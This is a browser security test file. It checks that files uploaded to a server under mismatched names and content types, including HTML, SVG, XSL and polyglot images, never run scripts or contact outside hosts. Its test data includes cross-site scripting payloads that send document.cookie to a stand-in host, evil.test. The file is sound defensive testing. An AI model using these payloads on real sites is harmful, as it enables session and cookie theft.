import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { type Browser, hasBrowser, openBrowser } from '../support/browser.ts';
import { plain } from '../support/pictures.ts';
import { openWorld, type World } from '../support/world.ts';

/** What a script in a file does: it tells whoever embeds it, and somebody else's server. */
const ACT = "parent.ran=opener?.ran?1:1;window.ran=1;new Image().src='http://evil.test/'+document.cookie";
const PAGE = `<!doctype html><title>p</title><script>${ACT}</script><img src=x onerror="${ACT}"><iframe src="javascript:${ACT}"></iframe>`;
const DRAWING = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${ACT}"><script>${ACT.replaceAll('&', '&amp;')}</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/i"/></foreignObject></svg>`;
const STYLED = `<?xml version="1.0"?><?xml-stylesheet href="http://evil.test/s.xsl" type="text/xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${ACT}</script></html>`;

/** Files that are one thing by name or type and another by content. */
const FILES: readonly (readonly [name: string, type: string, content: string])[] = [
  ['page.png', 'image/png', PAGE],
  ['page.jpg', 'image/jpeg', `\u00ff\u00d8\u00ff\u00e0${PAGE}`],
  ['page.gif', 'image/gif', `GIF89a/*${PAGE}*/=1;${ACT}`],
  ['page.pdf', 'application/pdf', PAGE],
  ['page.mp4', 'video/mp4', PAGE],
  ['page.mp3', 'audio/mpeg', PAGE],
  ['page.html', 'text/html', PAGE],
  ['page.htm', 'text/html; charset=utf-7', PAGE],
  ['page.xhtml', 'application/xhtml+xml', STYLED],
  ['page.xml', 'text/xml', STYLED],
  ['page.txt', 'text/plain', PAGE],
  ['page', '', PAGE],
  ['page.bin', 'application/octet-stream', PAGE],
  ['page.mht', 'multipart/related', PAGE],
  ['page.js', 'text/javascript', ACT],
  ['page.css', 'text/css', '*{background:url(http://evil.test/css)}'],
  ['drawing.svg', 'image/svg+xml', DRAWING],
  ['drawing.png', 'image/png', DRAWING],
  ['drawing.xml', 'image/svg+xml; charset=utf-8', DRAWING],
  ['odd.png', 'image/png, text/html', PAGE],
  ['odd.html', 'TEXT/HTML ', PAGE],
];

describe.skipIf(!hasBrowser())('files of two kinds, in a browser that runs scripts', () => {
  let world: World;
  let browser: Browser;
  let origin: string;
  const asked: string[] = [];
  beforeAll(async () => {
    world = await openWorld('sqlite', { environment: { ROOST_PORT: '0' } });
    origin = `http://127.0.0.1:${await world.server.start()}`;
    browser = await openBrowser({ javaScriptEnabled: true });
    await browser.context.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      if (url.origin !== origin && url.protocol.startsWith('http')) asked.push(url.href);
      if (url.pathname === '/frame.html') await route.fulfill({ contentType: 'text/html', body: frameOf(url) });
      else if (url.hostname !== 'evil.test') await route.continue();
      else await route.fulfill({ status: 404, body: '' });
    });
  });
  afterAll(async () => {
    await browser.close();
    await world.close();
  });

  /** A page of the server's own origin that embeds a file in every way. */
  const frameOf = (url: URL) => {
    const file = url.searchParams.get('file') ?? '';
    return `<!doctype html><script>ran=undefined</script><iframe src="${file}"></iframe><object data="${file}"></object>
      <embed src="${file}"><img src="${file}"><video src="${file}"></video><link rel=icon href="${file}">`;
  };
  const address = async (name: string, type: string, content: string | Buffer): Promise<string> => {
    const { url } = await world.max.upload(name, content, type === '' ? undefined : type);
    return `${origin}${(await world.max.get(url))['url']}`;
  };
  /** Opens an address and lets it act for a moment. Documents that may run nothing cannot be asked, so nobody asks. */
  const visit = async (page: Page, url: string): Promise<void> => {
    // What is saved instead of shown ends the navigation.
    const options = { timeout: 10_000, waitUntil: 'commit' } as const;
    await page.goto(url, options).catch((error: Error) => expect(error.message).toMatch(/Download|ERR_/));
    await page.waitForTimeout(150);
  };
  const visitAllWays = async (page: Page, file: string): Promise<unknown> => {
    await visit(page, file);
    await visit(page, `${origin}/frame.html?file=${encodeURIComponent(file)}`);
    return page.evaluate('window.ran');
  };

  it('act, where a page of the origin holds them', async () => {
    const page = await browser.context.newPage();
    await page.route('**/control.html', (route) => route.fulfill({ contentType: 'text/html', body: PAGE }));
    await visit(page, `${origin}/control.html`);
    expect(await page.evaluate('window.ran')).toBe(1);
    expect(asked.length).toBeGreaterThan(0);
    await page.close();
  });

  it.each(FILES)('do nothing: %s as %s', async (name, type, content) => {
    asked.splice(0);
    const file = await address(name, type, Buffer.from(content, 'latin1'));
    const page = await browser.context.newPage();
    expect(await visitAllWays(page, file)).toBeUndefined();
    expect(asked).toEqual([]);
    await page.close();
  });

  it('do nothing when a real picture has a page behind its end', async () => {
    asked.splice(0);
    const png = await plain(8, 8).png().toBuffer();
    const file = await address('both.png', 'image/png', Buffer.concat([png, Buffer.from(PAGE)]));
    const page = await browser.context.newPage();
    expect(await visitAllWays(page, file)).toBeUndefined();
    const width = () => page.evaluate("document.querySelector('img').naturalWidth");
    await expect.poll(width, { message: 'it is a picture' }).toBe(8);
    expect(asked).toEqual([]);
    await page.close();
  });
});
